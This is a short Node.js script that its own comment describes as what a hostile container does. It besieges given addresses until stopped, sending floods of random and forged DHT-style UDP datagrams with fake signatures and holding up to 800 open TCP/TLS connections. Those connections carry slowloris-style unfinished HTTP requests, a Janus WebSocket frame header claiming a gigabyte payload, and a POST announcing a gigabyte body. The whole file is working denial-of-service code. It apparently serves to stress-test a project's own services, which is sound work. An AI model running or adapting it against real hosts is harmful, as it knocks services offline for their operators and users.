// SPDX-License-Identifier: LGPL-2.1-or-later
// What a hostile container does: node siege.mjs ADDRESS… besieges them until it is stopped.
import crypto from 'node:crypto';
import dgram from 'node:dgram';
import net from 'node:net';
import tls from 'node:tls';

const targets = process.argv.slice(2);
const [port, webSocket, http] = [7773, 8188, 8088];
const udp = dgram.createSocket('udp4');
udp.on('error', () => {});
const any = (from) => from[crypto.randomInt(from.length)];
const text = (value) => `${value.length}:${value}`;
const bytes = (length) => crypto.randomBytes(length).toString('latin1');

const datagrams = [
  () => crypto.randomBytes(crypto.randomInt(1, 1400)),
  // As the protocol has them, of nodes that are not there, with signatures that are none.
  () => Buffer.from(`d1:ad2:id20:${bytes(20)}6:target20:${bytes(20)}e1:q9:find_node1:t2:aa1:y1:qe`, 'latin1'),
  () => Buffer.from(`d1:ad2:id20:${bytes(20)}1:k32:${bytes(32)}3:sig64:${bytes(64)}6:target20:${bytes(20)}` +
    `5:token8:${bytes(8)}1:v${text(bytes(300))}e1:q5:store1:t2:aa1:y1:qe`, 'latin1'),
  () => Buffer.from(`d1:rd2:id20:${bytes(20)}5:nodes208:${bytes(208)}e1:t2:${bytes(2)}1:y1:re`, 'latin1'),
];
setInterval(() => {
  for (let number = 0; number < 20; number++) udp.send(any(datagrams)(), port, any(targets));
}, 5);

const open = [];
function keep(socket) {
  socket.on('error', () => {});
  open.push(socket);
  if (open.length > 800) open.shift().destroy();
  return socket;
}
const attempts = [
  (host) => keep(net.connect(port, host)), // says nothing
  (host) => keep(net.connect(port, host)).write(crypto.randomBytes(500)),
  (host) => { // TLS, then a request that never ends
    const socket = keep(tls.connect({ host, port, rejectUnauthorized: false }, () => {
      socket.write(`GET /viaduct HTTP/1.1\r\nX: ${'x'.repeat(1000)}`);
    }));
  },
  (host) => { // Janus's WebSocket: the head of a frame of a gigabyte, and a bit of it
    const socket = keep(net.connect(webSocket, host, () => {
      socket.write(`GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n` +
        `Sec-WebSocket-Key: ${crypto.randomBytes(16).toString('base64')}\r\nSec-WebSocket-Protocol: janus-protocol\r\n\r\n`);
      socket.once('data', () => {
        socket.write(Buffer.from([0x81, 0xff, 0, 0, 0, 0, 0x40, 0, 0, 0, 1, 2, 3, 4]));
        socket.write(crypto.randomBytes(10000));
      });
    }));
  },
  (host) => keep(net.connect(http, host)).write('POST /janus HTTP/1.1\r\nContent-Length: 1000000000\r\n\r\n{'),
];
setInterval(() => any(attempts)(any(targets)), 20);
